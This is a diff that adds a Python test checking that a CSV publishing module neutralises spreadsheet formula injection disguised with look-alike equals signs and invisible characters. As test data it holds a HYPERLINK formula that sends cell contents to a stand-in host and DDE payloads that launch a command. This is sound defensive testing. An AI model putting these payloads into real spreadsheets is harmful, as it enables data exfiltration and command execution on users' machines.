@@ -50,6 +50,35 @@ def test_only_whole_negative_numbers_keep_their_minus():
     ]
 
 
+# Formulas a spreadsheet still runs, disguised from a check on the ASCII signs alone (issue #26).
+DISGUISED = (
+    '＝HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")',  # full-width equals sign
+    "＠SUM(1+1)*cmd|' /C calc'!A0",
+    "－2+3+cmd|' /C calc'!A0",  # full-width hyphen-minus: no number as a whole
+    "﹦2+5",  # small equals sign
+    "⁼1+1",  # superscript equals sign
+    *(f"{invisible}=1+1" for invisible in ("\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u200b\ufeff\u200e")),
+    "\u200b＋84912",
+)
+SEEN_AS_TEXT = ("-5", "-0,5", "－5", "－0,5", "Đồng Tháp", "Ｘã Ａn Bình", "\u200bxã An Bình", "≠1", "")
+
+
+def test_disguised_formulas_are_neutralised_as_written(tmp_path):
+    import pyarrow as pa
+
+    from publish.files import neutralise, write_csv
+
+    assert [neutralise(v) for v in DISGUISED] == ["'" + v for v in DISGUISED]
+    assert [neutralise(v) for v in SEEN_AS_TEXT] == list(SEEN_AS_TEXT)
+    # The published CSV holds each cell as written, a formula behind its `'`.
+    mart = tmp_path / "m.parquet"
+    pq.write_table(
+        pa.table({"unit_name": [*DISGUISED, *SEEN_AS_TEXT], "n": range(len(DISGUISED + SEEN_AS_TEXT))}), mart
+    )
+    rows = _csv_rows(write_csv(mart, tmp_path / "m.csv").read_bytes())
+    assert [r["unit_name"] for r in rows] == ["'" + v for v in DISGUISED] + list(SEEN_AS_TEXT)
+
+
 def test_formula_cells_are_neutralised_and_negative_numbers_kept(ckan, marts_copy, prefix):
     hyperlink = '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")'
     tamper(
